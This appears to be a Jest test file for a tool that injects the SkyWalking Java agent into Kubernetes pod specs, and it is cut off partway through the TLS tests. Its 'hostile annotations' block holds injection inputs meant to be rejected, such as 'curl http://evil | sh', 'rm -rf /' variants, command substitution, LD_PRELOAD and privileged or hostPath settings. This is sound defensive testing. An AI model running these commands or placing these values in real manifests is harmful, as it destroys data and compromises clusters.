import { applyPatch } from 'fast-json-patch';
import { injectAgent, removeAgent, isAgentInjected, isIstioPod } from './inject';
import { INJECTED_MARKER_ANNOTATION, SWCK_SUCCEED_ANNOTATION } from './constants';
import type { PodLike } from './types';

const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v));

/** The demo pod of SWCK's docs/examples/java-agent-injector-usage.md. */
function demoPod(annotations?: Record<string, string>, extra: Partial<PodLike['spec']> = {}): PodLike {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'demo1',
      namespace: 'default',
      labels: { 'swck-java-agent-injected': 'true', app: 'demo1' },
      ...(annotations ? { annotations } : {}),
    },
    spec: {
      containers: [
        {
          name: 'demo1',
          image: 'ghcr.io/apache/skywalking-swck-spring-demo:v0.0.1',
          command: ['java'],
          args: ['-jar', '/app.jar'],
          ports: [{ containerPort: 8085 }],
        },
      ],
      ...extra,
    },
  };
}

const env = (pod: any, container = 0) => Object.fromEntries((pod.spec.containers[container].env ?? []).map((e: any) => [e.name, e.value]));

describe('injectAgent: SWCK defaults', () => {
  it('injects the documented default init container, volume, mount and JAVA_TOOL_OPTIONS', () => {
    const input = demoPod();
    const r = injectAgent({ pod: input });
    expect(r.injected).toBe(true);
    expect(r.errors).toEqual([]);
    expect(r.pod.spec.initContainers).toEqual([
      {
        name: 'inject-skywalking-agent',
        image: 'apache/skywalking-java-agent:9.3.0-java17',
        command: ['sh'],
        args: ['-c', 'mkdir -p /sky/agent && cp -r /skywalking/agent/* /sky/agent'],
        volumeMounts: [{ name: 'sky-agent', mountPath: '/sky/agent' }],
      },
    ]);
    expect(r.pod.spec.volumes).toEqual([{ name: 'sky-agent', emptyDir: {} }]);
    expect(r.pod.spec.containers[0].volumeMounts).toEqual([{ name: 'sky-agent', mountPath: '/sky/agent' }]);
    expect(r.pod.spec.containers[0].env).toEqual([{ name: 'JAVA_TOOL_OPTIONS', value: '-javaagent:/sky/agent/skywalking-agent.jar' }]);
    expect(r.pod.metadata!.annotations![SWCK_SUCCEED_ANNOTATION]).toBe('true');
    expect(JSON.parse(r.pod.metadata!.annotations![INJECTED_MARKER_ANNOTATION]).v).toBe(1);
    expect(isAgentInjected(r.pod)).toBe(true);
  });

  it('does not modify its input and returns a patch that reproduces the result', () => {
    const input = demoPod();
    const before = clone(input);
    const r = injectAgent({ pod: input });
    expect(input).toEqual(before);
    expect(r.pod).not.toBe(input);
    expect(applyPatch(clone(input), r.patch as any).newDocument).toEqual(r.pod);
    expect(r.patch.every(op => ['add', 'replace', 'remove'].includes(op.op))).toBe(true);
  });

  it('follows the documented annotation example (agent, plugins, optional plugins, inject.Container)', () => {
    const pod = demoPod({
      'strategy.skywalking.apache.org/inject.Container': 'demo1',
      'agent.skywalking.apache.org/agent.service_name': 'app',
      'agent.skywalking.apache.org/agent.sample_n_per_3_secs': '6',
      'agent.skywalking.apache.org/agent.class_cache_mode': 'MEMORY',
      'agent.skywalking.apache.org/agent.ignore_suffix': "'jpg,.jpeg'",
      'plugins.skywalking.apache.org/plugin.mount': "'plugins,activations'",
      'plugins.skywalking.apache.org/plugin.mongodb.trace_param': 'true',
      'plugins.skywalking.apache.org/plugin.influxdb.trace_influxql': 'false',
      'optional.skywalking.apache.org': 'trace|webflux|cloud-gateway-2.1.x',
      'optional-reporter.skywalking.apache.org': 'kafka',
    });
    pod.spec.containers.unshift({ name: 'nginx', image: 'nginx:1.16.1' });
    const r = injectAgent({ pod });
    expect(r.errors).toEqual([]);
    expect(r.pod.spec.containers[0]).toEqual(pod.spec.containers[0]); // nginx untouched
    const value = env(r.pod, 1).JAVA_TOOL_OPTIONS as string;
    expect(value.startsWith('-javaagent:/sky/agent/skywalking-agent.jar=')).toBe(true);
    const options = value.split('.jar=')[1];
    // same option set as SWCK's documented output (SWCK's order is random, ours is sorted)
    expect(options).toBe(
      "agent.class_cache_mode=MEMORY,agent.ignore_suffix='jpg,.jpeg',agent.sample_n_per_3_secs=6,agent.service_name=app," +
        "plugin.influxdb.trace_influxql=false,plugin.mongodb.trace_param=true,plugin.mount='plugins,activations'",
    );
    expect(r.pod.spec.initContainers![0].args).toEqual([
      '-c',
      'mkdir -p /sky/agent && cp -r /skywalking/agent/* /sky/agent && cd /sky/agent/optional-plugins/ && ls | grep -E "trace|webflux|cloud-gateway-2.1.x"  | xargs -i cp {} /sky/agent/plugins/' +
        ' && cd /sky/agent/optional-reporter-plugins/ && ls | grep -E "kafka"  | xargs -i cp {} /sky/agent/plugins/',
    ]);
  });

  it('applies the sidecar annotations of the docs', () => {
    const r = injectAgent({
      pod: demoPod({
        'sidecar.skywalking.apache.org/initcontainer.Name': 'my-agent',
        'sidecar.skywalking.apache.org/initcontainer.Image': 'apache/skywalking-java-agent:9.0.0-java17',
        'sidecar.skywalking.apache.org/initcontainer.resources.limits': '{"memory": "100Mi","cpu": "100m"}',
        'sidecar.skywalking.apache.org/initcontainer.resources.requests': '{"memory": "100Mi","cpu": "100m"}',
        'sidecar.skywalking.apache.org/sidecarVolume.Name': 'agent-vol',
        'sidecar.skywalking.apache.org/sidecarVolumeMount.MountPath': '/opt/sw',
        'sidecar.skywalking.apache.org/env.Name': 'JAVA_OPTS',
        'agent.skywalking.apache.org/collector.backend_service': 'oap-service:11800',
      }),
    });
    expect(r.errors).toEqual([]);
    const init = r.pod.spec.initContainers![0];
    expect(init).toMatchObject({
      name: 'my-agent',
      image: 'apache/skywalking-java-agent:9.0.0-java17',
      args: ['-c', 'mkdir -p /opt/sw && cp -r /skywalking/agent/* /opt/sw'],
      resources: { limits: { memory: '100Mi', cpu: '100m' }, requests: { memory: '100Mi', cpu: '100m' } },
      volumeMounts: [{ name: 'agent-vol', mountPath: '/opt/sw' }],
    });
    expect(r.pod.spec.volumes).toEqual([{ name: 'agent-vol', emptyDir: {} }]);
    expect(env(r.pod)).toEqual({ JAVA_OPTS: '-javaagent:/opt/sw/skywalking-agent.jar=collector.backend_service=oap-service:11800' });
  });

  it('uses SwAgent defaults (docs example) below annotations', () => {
    const defaults = {
      containerMatcher: '',
      javaSidecar: {
        name: 'swagent-demo',
        image: 'apache/skywalking-java-agent:8.16.0-java8',
        env: [
          { name: 'SW_LOGGING_LEVEL', value: 'DEBUG' },
          { name: 'SW_AGENT_COLLECTOR_BACKEND_SERVICES', value: 'skywalking-system-oap:11800' },
        ],
      },
      sharedVolumeName: 'sky-agent-demo',
      optionalPlugins: ['webflux', 'cloud-gateway-2.1.x'],
    };
    const r = injectAgent({ pod: demoPod(), defaults });
    expect(r.errors).toEqual([]);
    expect(r.pod.spec.initContainers![0]).toMatchObject({
      name: 'swagent-demo',
      args: [
        '-c',
        'mkdir -p /sky/agent && cp -r /skywalking/agent/* /sky/agent && cd /sky/agent/optional-plugins/ && ls | grep -E "webflux|cloud-gateway-2.1.x"  | xargs -i cp {} /sky/agent/plugins/',
      ],
      volumeMounts: [{ name: 'sky-agent-demo', mountPath: '/sky/agent' }],
    });
    expect(env(r.pod)).toEqual({
      JAVA_TOOL_OPTIONS: '-javaagent:/sky/agent/skywalking-agent.jar',
      SW_LOGGING_LEVEL: 'DEBUG',
      SW_AGENT_COLLECTOR_BACKEND_SERVICES: 'skywalking-system-oap:11800',
    });
    // annotation beats SwAgent
    const r2 = injectAgent({ pod: demoPod({ 'sidecar.skywalking.apache.org/initcontainer.Name': 'from-anno' }), defaults });
    expect(r2.pod.spec.initContainers![0].name).toBe('from-anno');
  });

  it('runs the SwAgent CRD default command (a shell snippet) through sh -c', () => {
    const r = injectAgent({
      pod: demoPod(),
      defaults: { javaSidecar: { command: ['mkdir -p /sky/agent && cp -r /skywalking/agent/* /sky/agent'] } },
    });
    expect(r.pod.spec.initContainers![0]).toMatchObject({
      command: ['sh'],
      args: ['-c', 'mkdir -p /sky/agent && cp -r /skywalking/agent/* /sky/agent'],
    });
  });

  it('sets service name and collector from the backend as env vars, keeping existing ones', () => {
    const pod = demoPod();
    pod.spec.containers[0].env = [{ name: 'SW_AGENT_NAME', value: 'mine' }];
    const r = injectAgent({ pod, backend: { collectorAddress: 'oap-name-oap.ns:11800', agentServiceName: 'shop::cart' } });
    expect(env(r.pod)).toEqual({
      SW_AGENT_NAME: 'mine',
      JAVA_TOOL_OPTIONS: '-javaagent:/sky/agent/skywalking-agent.jar',
      SW_AGENT_COLLECTOR_BACKEND_SERVICES: 'oap-name-oap.ns:11800',
    });
    expect(r.warnings.join()).toMatch(/already sets SW_AGENT_NAME/);
  });

  it('takes annotation overrides from the caller over the pod annotations', () => {
    const r = injectAgent({
      pod: demoPod({ 'agent.skywalking.apache.org/agent.service_name': 'pod-says' }),
      annotations: { 'agent.skywalking.apache.org/agent.service_name': 'caller-says' },
    });
    expect(env(r.pod).JAVA_TOOL_OPTIONS).toBe('-javaagent:/sky/agent/skywalking-agent.jar=agent.service_name=caller-says');
    expect(r.pod.metadata!.annotations!['agent.skywalking.apache.org/agent.service_name']).toBe('pod-says');
  });

  it('quotes values with , or = for the agent option parser', () => {
    const r = injectAgent({
      pod: demoPod({ 'agent.skywalking.apache.org/collector.backend_service': 'oap-a:11800,oap-b:11800' }),
    });
    expect(env(r.pod).JAVA_TOOL_OPTIONS).toBe("-javaagent:/sky/agent/skywalking-agent.jar=collector.backend_service='oap-a:11800,oap-b:11800'");
  });

  it('ignores agent/plugin annotations when the legacy agent.Overlay is "false"', () => {
    const r = injectAgent({
      pod: demoPod({
        'strategy.skywalking.apache.org/agent.Overlay': 'false',
        'agent.skywalking.apache.org/agent.service_name': 'app',
      }),
    });
    expect(env(r.pod).JAVA_TOOL_OPTIONS).toBe('-javaagent:/sky/agent/skywalking-agent.jar');
    expect(r.warnings.join()).toMatch(/agent.Overlay/);
  });
});

describe('injectAgent: opt-in', () => {
  it('needs the pod label unless forced', () => {
    const pod = demoPod();
    delete pod.metadata!.labels!['swck-java-agent-injected'];
    const r = injectAgent({ pod });
    expect(r).toMatchObject({ injected: false, patch: [] });
    expect(r.reason).toMatch(/not opted in/);
    expect(injectAgent({ pod, force: true }).injected).toBe(true);
  });

  it('respects an explicit "false" even when forced', () => {
    const pod = demoPod();
    pod.metadata!.labels!['swck-java-agent-injected'] = 'false';
    expect(injectAgent({ pod, force: true }).injected).toBe(false);
  });

  it('checks the namespace label when namespace labels are given', () => {
    expect(injectAgent({ pod: demoPod(), namespaceLabels: { 'swck-injection': 'enabled' } }).injected).toBe(true);
    expect(injectAgent({ pod: demoPod(), namespaceLabels: {} }).reason).toMatch(/namespace/);
    expect(injectAgent({ pod: demoPod(), namespaceLabels: {}, force: true }).injected).toBe(true);
    expect(injectAgent({ pod: demoPod(), namespaceLabels: { 'swck-injection': 'disabled' }, force: true }).injected).toBe(false);
  });

  it('skips pods SWCK already injected', () => {
    const r = injectAgent({ pod: demoPod({ [SWCK_SUCCEED_ANNOTATION]: 'true' }) });
    expect(r).toMatchObject({ injected: false, patch: [] });
    expect(r.reason).toMatch(/SWCK/);
  });

  it('reports non-pods', () => {
    const r = injectAgent({ pod: { metadata: {} } as any });
    expect(r.injected).toBe(false);
    expect(r.errors[0].path).toBe('spec.containers');
  });
});

describe('injectAgent: pods and pod templates', () => {
  it('injects a pod template without metadata annotations and removes cleanly', () => {
    const template = { metadata: { labels: { app: 'x' } }, spec: { containers: [{ name: 'app', image: 'java' }] } };
    const r = injectAgent({ pod: template, force: true });
    expect(r.injected).toBe(true);
    expect(r.pod.spec.initContainers).toHaveLength(1);
    expect(removeAgent(r.pod).pod).toEqual(template);
  });

  it('injects a template without metadata at all', () => {
    const template = { spec: { containers: [{ name: 'app', image: 'java' }] } };
    const r = injectAgent({ pod: template, force: true });
    expect(r.pod.metadata!.annotations![SWCK_SUCCEED_ANNOTATION]).toBe('true');
    expect(removeAgent(r.pod).pod).toEqual(template);
  });
});

describe('injectAgent: containers', () => {
  const multi = () =>
    demoPod(undefined, {
      containers: [
        { name: 'app', image: 'java' },
        { name: 'worker', image: 'java' },
        { name: 'app-metrics', image: 'exporter' },
      ],
      initContainers: [{ name: 'migrate', image: 'flyway' }],
      volumes: [{ name: 'data', emptyDir: {} }],
    });

  it('injects all containers by default (as SWCK)', () => {
    const r = injectAgent({ pod: multi() });
    expect(r.pod.spec.containers.map(c => !!env(r.pod, r.pod.spec.containers.indexOf(c)).JAVA_TOOL_OPTIONS)).toEqual([true, true, true]);
    expect(r.pod.spec.initContainers!.map(c => c.name)).toEqual(['migrate', 'inject-skywalking-agent']);
    expect(r.pod.spec.volumes!.map(v => v.name)).toEqual(['data', 'sky-agent']);
  });

  it('selects containers with the inject.Container regular expression (unanchored, as Go regexp)', () => {
    const pod = multi();
    pod.metadata!.annotations = { 'strategy.skywalking.apache.org/inject.Container': '^app$|worker' };
    const r = injectAgent({ pod });
    expect(r.pod.spec.containers.map((_, i) => !!env(r.pod, i).JAVA_TOOL_OPTIONS)).toEqual([true, true, false]);
    pod.metadata!.annotations = { 'strategy.skywalking.apache.org/inject.Container': 'app' };
    const r2 = injectAgent({ pod });
    expect(r2.pod.spec.containers.map((_, i) => !!env(r2.pod, i).JAVA_TOOL_OPTIONS)).toEqual([true, false, true]);
  });

  it('uses the SwAgent containerMatcher when there is no annotation', () => {
    const r = injectAgent({ pod: multi(), defaults: { containerMatcher: '^worker$' } });
    expect(r.pod.spec.containers.map((_, i) => !!env(r.pod, i).JAVA_TOOL_OPTIONS)).toEqual([false, true, false]);
  });

  it('injects nothing when no container matches', () => {
    const pod = multi();
    pod.metadata!.annotations = { 'strategy.skywalking.apache.org/inject.Container': 'nope' };
    const r = injectAgent({ pod });
    expect(r).toMatchObject({ injected: false, patch: [] });
    expect(r.reason).toMatch(/no container matches/);
  });

  it('falls back to the first container for an invalid matcher, reporting it', () => {
    const pod = multi();
    // a possessive quantifier: not RE2 (Go regexp), so SWCK refuses it too
    pod.metadata!.annotations = { 'strategy.skywalking.apache.org/inject.Container': 'a++$' };
    const r = injectAgent({ pod });
    expect(r.errors.map(e => e.path)).toEqual(['metadata.annotations["strategy.skywalking.apache.org/inject.Container"]']);
    expect(r.pod.spec.containers.map((_, i) => !!env(r.pod, i).JAVA_TOOL_OPTIONS)).toEqual([true, false, false]);
  });

  it('refuses when the init container or volume name is taken', () => {
    const pod = multi();
    pod.spec.volumes!.push({ name: 'sky-agent', emptyDir: {} });
    const r = injectAgent({ pod });
    expect(r).toMatchObject({ injected: false, patch: [] });
    expect(r.errors[0].path).toBe('spec.volumes');
    const pod2 = multi();
    pod2.spec.initContainers!.push({ name: 'inject-skywalking-agent' });
    expect(injectAgent({ pod: pod2 }).errors[0].path).toBe('spec.initContainers');
  });
});

describe('injectAgent: JAVA_TOOL_OPTIONS', () => {
  it('appends to an existing value instead of clobbering it', () => {
    const pod = demoPod();
    pod.spec.containers[0].env = [
      { name: 'A', value: '1' },
      { name: 'JAVA_TOOL_OPTIONS', value: '-Xmx512m -XX:+UseG1GC' },
    ];
    const r = injectAgent({ pod, annotations: { 'agent.skywalking.apache.org/agent.service_name': 'svc' } });
    expect(r.pod.spec.containers[0].env).toEqual([
      { name: 'A', value: '1' },
      { name: 'JAVA_TOOL_OPTIONS', value: '-Xmx512m -XX:+UseG1GC -javaagent:/sky/agent/skywalking-agent.jar=agent.service_name=svc' },
    ]);
    expect(removeAgent(r.pod).pod).toEqual(pod);
  });

  it('fills an existing empty value', () => {
    const pod = demoPod();
    pod.spec.containers[0].env = [{ name: 'JAVA_TOOL_OPTIONS', value: '' }];
    const r = injectAgent({ pod });
    expect(env(r.pod).JAVA_TOOL_OPTIONS).toBe('-javaagent:/sky/agent/skywalking-agent.jar');
    expect(removeAgent(r.pod).pod).toEqual(pod);
  });

  it('reports and skips a container whose JAVA_TOOL_OPTIONS comes from valueFrom', () => {
    const pod = demoPod();
    pod.spec.containers[0].env = [{ name: 'JAVA_TOOL_OPTIONS', valueFrom: { configMapKeyRef: { name: 'jvm', key: 'opts' } } }];
    const r = injectAgent({ pod });
    expect(r).toMatchObject({ injected: false, patch: [] });
    expect(r.errors).toEqual([{ path: 'spec.containers[0].env[0]', message: expect.stringMatching(/valueFrom/) }]);
  });

  it('injects the other containers when one has valueFrom', () => {
    const pod = demoPod(undefined, {
      containers: [
        { name: 'a', env: [{ name: 'JAVA_TOOL_OPTIONS', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] },
        { name: 'b' },
      ],
    });
    const r = injectAgent({ pod });
    expect(r.injected).toBe(true);
    expect(r.reason).toMatch(/1 of 2/);
    expect(r.pod.spec.containers[0]).toEqual(pod.spec.containers[0]);
    expect(env(r.pod, 1).JAVA_TOOL_OPTIONS).toBeDefined();
    expect(removeAgent(r.pod).pod).toEqual(pod);
  });

  it('does not add the agent twice when JAVA_TOOL_OPTIONS already loads it', () => {
    const pod = demoPod();
    pod.spec.containers[0].env = [{ name: 'JAVA_TOOL_OPTIONS', value: '-javaagent:/sky/agent/skywalking-agent.jar' }];
    expect(injectAgent({ pod }).injected).toBe(false);
  });
});

describe('injectAgent: idempotency and removal', () => {
  const variants: Array<[string, () => PodLike]> = [
    ['plain', () => demoPod()],
    [
      'with existing env, mounts, init containers, volumes',
      () =>
        demoPod(
          { 'agent.skywalking.apache.org/agent.service_name': 'x', other: 'keep' },
          {
            containers: [
              { name: 'a', env: [{ name: 'JAVA_TOOL_OPTIONS', value: '-Xss1m' }], volumeMounts: [{ name: 'd', mountPath: '/d' }] },
              { name: 'b', env: [] },
            ],
            initContainers: [{ name: 'i' }],
            volumes: [{ name: 'd', emptyDir: {} }],
          },
        ),
    ],
  ];
  it.each(variants)('injecting twice changes nothing the second time (%s)', (_, make) => {
    const first = injectAgent({ pod: make(), backend: { collectorAddress: 'oap:11800', agentServiceName: 's' } });
    expect(first.injected).toBe(true);
    const second = injectAgent({ pod: first.pod, backend: { collectorAddress: 'oap:11800', agentServiceName: 's' } });
    expect(second).toMatchObject({ injected: false, patch: [], reason: 'already injected' });
    expect(second.pod).toEqual(first.pod);
  });

  it.each(variants)('remove after inject gives back the original (%s)', (_, make) => {
    const original = make();
    const injected = injectAgent({ pod: original, backend: { collectorAddress: 'oap:11800', agentServiceName: 's' } }).pod;
    const r = removeAgent(injected);
    expect(r.removed).toBe(true);
    expect(r.pod).toEqual(original);
    expect(applyPatch(clone(injected), r.patch as any).newDocument).toEqual(original);
    expect(removeAgent(r.pod)).toMatchObject({ removed: false, patch: [] });
  });

  it('leaves SWCK-injected pods alone on removal', () => {
    const r = removeAgent(demoPod({ [SWCK_SUCCEED_ANNOTATION]: 'true' }));
    expect(r).toMatchObject({ removed: false, patch: [] });
    expect(r.reason).toMatch(/SWCK/);
  });

  it('reports a corrupted marker instead of guessing', () => {
    const r = removeAgent(demoPod({ [INJECTED_MARKER_ANNOTATION]: '{"v":1' }));
    expect(r.removed).toBe(false);
    expect(r.errors[0].message).toMatch(/not JSON/);
    const r2 = removeAgent(demoPod({ [INJECTED_MARKER_ANNOTATION]: '{"v":2}' }));
    expect(r2.errors[0].message).toMatch(/does not describe/);
  });

  it('keeps user changes made after injection', () => {
    const injected = injectAgent({ pod: demoPod() }).pod;
    injected.spec.containers[0].env!.push({ name: 'LATER', value: 'x' });
    const r = removeAgent(injected);
    expect(r.pod.spec.containers[0].env).toEqual([{ name: 'LATER', value: 'x' }]);
  });
});

describe('injectAgent: hostile annotations', () => {
  const hostile: Array<[string, string]> = [
    ['agent.skywalking.apache.org/agent.service_name', 'app -XX:+PrintFlagsFinal'],
    ['agent.skywalking.apache.org/agent.service_name', 'app\n-Dfoo=bar'],
    ['agent.skywalking.apache.org/agent.service_name', '-XX:OnOutOfMemoryError=sh'],
    ['agent.skywalking.apache.org/agent.service_name', '-Dskywalking.agent.x=y'],
    ['agent.skywalking.apache.org/agent.service_name', '$(rm -rf /)'],
    ['agent.skywalking.apache.org/agent.service_name', '$(HOME)'],
    ['agent.skywalking.apache.org/agent.service_name', '`id`'],
    ['agent.skywalking.apache.org/agent.service_name', 'a;b'],
    ['agent.skywalking.apache.org/agent.service_name', "a'b"],
    ['agent.skywalking.apache.org/agent.service_name', 'x\tb'],
    ['agent.skywalking.apache.org/agent.service_name', 'a'.repeat(10_000)],
    ['agent.skywalking.apache.org/agent.service_name', ''],
    ['agent.skywalking.apache.org/collector.backend_service', 'oap:11800 -javaagent:/tmp/evil.jar'],
    ['agent.skywalking.apache.org/collector.backend_service', 'evil host:11800'],
    ['agent.skywalking.apache.org/collector.backend_service', 'oap:port'],
    ['agent.skywalking.apache.org/-Dfoo', 'bar'],
    ['agent.skywalking.apache.org/agent.x -Dfoo', 'bar'],
    ['agent.skywalking.apache.org/not_a_section.key', 'v'],
    ['plugins.skywalking.apache.org/plugin.x', 'true -Xbootclasspath/a:/tmp'],
    ['plugins.skywalking.apache.org/agent.service_name', 'v'],
    ['sidecar.skywalking.apache.org/env.Value', '-javaagent:/sky/agent/skywalking-agent.jar -Dx=y'],
    ['sidecar.skywalking.apache.org/env.Value', '-javaagent:/tmp/../etc/evil.jar'],
    ['sidecar.skywalking.apache.org/env.Name', 'LD_PRELOAD'],
    ['sidecar.skywalking.apache.org/env.Name', 'PATH'],
    ['sidecar.skywalking.apache.org/initcontainer.Command', 'sh -c id'],
    ['sidecar.skywalking.apache.org/initcontainer.args.Option', '-c; id'],
    ['sidecar.skywalking.apache.org/initcontainer.args.Command', 'curl http://evil | sh'],
    ['sidecar.skywalking.apache.org/initcontainer.args.Command', 'mkdir -p /sky/agent; rm -rf /'],
    ['sidecar.skywalking.apache.org/initcontainer.args.Command', 'mkdir -p /x && $(rm -rf /)'],
    ['sidecar.skywalking.apache.org/initcontainer.args.Command', 'mkdir -p /x\nrm -rf /'],
    ['sidecar.skywalking.apache.org/initcontainer.args.Command', 'mkdir /x & rm -rf /'],
    ['sidecar.skywalking.apache.org/initcontainer.Image', 'busybox; rm -rf /'],
    ['sidecar.skywalking.apache.org/initcontainer.Name', 'Bad_Name'],
    ['sidecar.skywalking.apache.org/sidecarVolume.Name', 'x\nhostPath: /'],
    ['sidecar.skywalking.apache.org/sidecarVolumeMount.MountPath', '/etc'],
    ['sidecar.skywalking.apache.org/sidecarVolumeMount.MountPath', '/var/run/secrets'],
    ['sidecar.skywalking.apache.org/sidecarVolumeMount.MountPath', '/app/../etc'],
    ['sidecar.skywalking.apache.org/sidecarVolumeMount.MountPath', 'relative'],
    ['sidecar.skywalking.apache.org/initcontainer.resources.limits', '{"cpu": "-1"}'],
    ['sidecar.skywalking.apache.org/initcontainer.resources.limits', '{"gpu": "1"}'],
    ['sidecar.skywalking.apache.org/initcontainer.resources.limits', 'cpu=1'],
    ['sidecar.skywalking.apache.org/volumes', '[{"name":"x","hostPath":{"path":"/"}}]'],
    ['sidecar.skywalking.apache.org/initcontainer.securityContext', '{"privileged":true}'],
    ['optional.skywalking.apache.org', 'trace" ; rm -rf / ; echo "'],
    ['optional.skywalking.apache.org', 'trace$(id)'],
    ['optional-reporter.skywalking.apache.org', 'kafka && id'],
    ['bootstrap.skywalking.apache.org', 'a|'],
    ['strategy.skywalking.apache.org/inject.Container', '(x+)\\1y'],
    ['strategy.skywalking.apache.org/inject.Container', '['],
    ['strategy.skywalking.apache.org/agent.Overlay', 'yes'],
    ['strategy.skywalking.apache.org/unknown', 'x'],
  ];

  const cases = hostile.map(([k, v]) => [k, v.length > 60 ? `${v.slice(0, 20)}… (${v.length} chars)` : v, v]);
  it.each(cases)('rejects %s = %j and applies nothing of it', (key, _label, value) => {
    const pod = demoPod({ [key]: value, 'agent.skywalking.apache.org/agent.namespace': 'good' });
    const r = injectAgent({ pod });
    expect(r.errors).toEqual([{ path: `metadata.annotations[${JSON.stringify(key)}]`, message: expect.any(String) }]);
    // the valid annotation is still applied, the invalid one is not
    expect(r.injected).toBe(true);
    const serialized = JSON.stringify({ ...r.pod, metadata: { ...r.pod.metadata, annotations: {} } });
    expect(serialized).not.toContain(JSON.stringify(value.length > 3 ? value : '\u0000never').slice(1, -1));
    const opts = env(r.pod).JAVA_TOOL_OPTIONS as string;
    expect(opts).toContain('agent.namespace=good');
    expect(opts.split(' ')).toHaveLength(1);
    expect(r.pod.spec.initContainers![0].command).toEqual(['sh']);
  });

  it('rejects hostile caller overrides and backend values the same way', () => {
    const r = injectAgent({
      pod: demoPod(),
      annotations: { 'plugins.skywalking.apache.org/plugin.x': 'a -Dx' },
      backend: { collectorAddress: 'oap:11800\n-Dx=y', agentServiceName: '$(id)' },
    });
    expect(r.errors.map(e => e.path).sort()).toEqual(['annotations["plugins.skywalking.apache.org/plugin.x"]', 'backend.agentServiceName', 'backend.collectorAddress']);
    expect(env(r.pod)).toEqual({ JAVA_TOOL_OPTIONS: '-javaagent:/sky/agent/skywalking-agent.jar' });
  });

  it('rejects hostile SwAgent defaults field by field', () => {
    const r = injectAgent({
      pod: demoPod(),
      defaults: {
        javaSidecar: { image: 'x y', name: 'ok-name', env: [{ name: 'bad name', value: 'x' }] },
        optionalPlugins: ['webflux', 'x"; id; "'],
        // a back-reference: not RE2
        containerMatcher: '(a)\\1',
      },
    });
    expect(r.errors.map(e => e.path).sort()).toEqual([
      'defaults.containerMatcher',
      'defaults.javaSidecar.env[0]',
      'defaults.javaSidecar.image',
      'defaults.optionalPlugins[1]',
    ]);
    expect(r.pod.spec.initContainers![0]).toMatchObject({ name: 'ok-name', image: 'apache/skywalking-java-agent:9.3.0-java17' });
    expect(r.pod.spec.initContainers![0].args![1]).toContain('grep -E "webflux"');
  });

  it('accepts legitimate values', () => {
    const r = injectAgent({
      pod: demoPod({
        'agent.skywalking.apache.org/agent.service_name': 'agent::songs',
        'agent.skywalking.apache.org/agent.sample_n_per_3_secs': '-1',
        'agent.skywalking.apache.org/collector.backend_service': '10.0.0.1:11800,oap.skywalking.svc.cluster.local:11800',
        'agent.skywalking.apache.org/agent.instance_name': 'songs',
        'plugins.skywalking.apache.org/plugin.jdkthreading.threading_class_prefixes': 'com.example.',
        'sidecar.skywalking.apache.org/initcontainer.args.Command': 'mkdir -p /sky/agent && cp -r /skywalking/agent/* /sky/agent',
        'sidecar.skywalking.apache.org/initcontainer.Command': '/bin/sh',
        'sidecar.skywalking.apache.org/initcontainer.Image': `registry.example.com:5000/sw/agent:9.1.0-java17@sha256:${'a'.repeat(64)}`,
        'bootstrap.skywalking.apache.org': 'jdk-threading',
      }),
    });
    expect(r.errors).toEqual([]);
    expect(env(r.pod).JAVA_TOOL_OPTIONS).toContain("collector.backend_service='10.0.0.1:11800,oap.skywalking.svc.cluster.local:11800'");
    expect(env(r.pod).JAVA_TOOL_OPTIONS).toContain('agent.sample_n_per_3_secs=-1');
  });
});

describe('injectAgent: Istio', () => {
  const istioPod = () =>
    demoPod(
      { 'sidecar.istio.io/status': '{"initContainers":["istio-init"],"containers":["istio-proxy"]}' },
      {
        initContainers: [{ name: 'istio-init', image: 'istio/proxyv2' }],
        containers: [
          { name: 'app', image: 'java' },
          { name: 'istio-proxy', image: 'istio/proxyv2', env: [{ name: 'JAVA_TOOL_OPTIONS', value: '' }] },
        ],
        volumes: [{ name: 'istio-envoy', emptyDir: {} }],
      },
    );

  it('injects the application container only, never istio-proxy or istio-init', () => {
    const pod = istioPod();
    expect(isIstioPod(pod)).toBe(true);
    const r = injectAgent({ pod });
    expect(r.injected).toBe(true);
    expect(env(r.pod, 0).JAVA_TOOL_OPTIONS).toBe('-javaagent:/sky/agent/skywalking-agent.jar');
    expect(r.pod.spec.containers[1]).toEqual(pod.spec.containers[1]);
    expect(r.pod.spec.initContainers![0]).toEqual(pod.spec.initContainers![0]);
    expect(r.pod.spec.initContainers!.map(c => c.name)).toEqual(['istio-init', 'inject-skywalking-agent']);
    expect(removeAgent(r.pod).pod).toEqual(pod);
  });

  it('never injects istio-proxy even when the matcher selects it', () => {
    const pod = istioPod();
    pod.metadata!.annotations!['strategy.skywalking.apache.org/inject.Container'] = 'istio-proxy';
    expect(injectAgent({ pod }).injected).toBe(false);
    pod.metadata!.annotations!['strategy.skywalking.apache.org/inject.Container'] = '.*';
    const r = injectAgent({ pod });
    expect(r.pod.spec.containers[1]).toEqual(pod.spec.containers[1]);
  });

  it('treats a pod with only the Istio status annotation as Istio', () => {
    expect(isIstioPod(demoPod({ 'sidecar.istio.io/status': '{}' }))).toBe(true);
    expect(isIstioPod(demoPod())).toBe(false);
  });
});

describe('injectAgent: the backend CA (TLS)', () => {
  it('mounts ca.crt of the CA ConfigMap into the agent ca/ directory, read-only, after the agent volume', () => {
    const input = demoPod();
    const r = injectAgent({ pod: input, backend: { collectorAddress: 'demo-oap.sw:11800', caConfigMap: 'skywalking-ca-demo' } });
    expect(r.injected).toBe(true);
    expect(r.errors).toEqual([]);
    expect(r.pod.spec.volumes).toEqual([
      { name: 'sky-agent', emptyDir: {} },
      { name: 'sky-agent-ca', configMap: { name: 'skywalking-ca-demo', items: [{ key: 'ca.crt', path: 'ca.crt' }] } },
    ]);
    expect(r.pod.spec.containers[0].volumeMounts).toEqual([
      { name: 'sky-agent', mountPath: '/sky/agent' },
      { name: 'sky-agent-ca', mountPath: '/sky/agent/ca', readOnly: true },
    ]);
    // the init container copies the agent only; it does not see the CA
    expect(r.pod.spec.initContainers![0].volumeMounts).toEqual([{ name: 'sky-agent', mountPath: '/sky/agent' }]);
    expect(applyPatch(clone(input), clone(r.patch) as any).newDocument).toEqual(r.pod);
    // removal takes out exactly what was added
    expect(removeAgent(r.pod).pod).toEqual(input);
    // idempotent
    expect(injectAgent({ pod: r.pod, backend: { caConfigMap: 'skywalking-ca-demo' } }).patch).toEqual([]);
  });

  it('follows an annotated mount path and volume name', () => {
    const r = injectAgent({
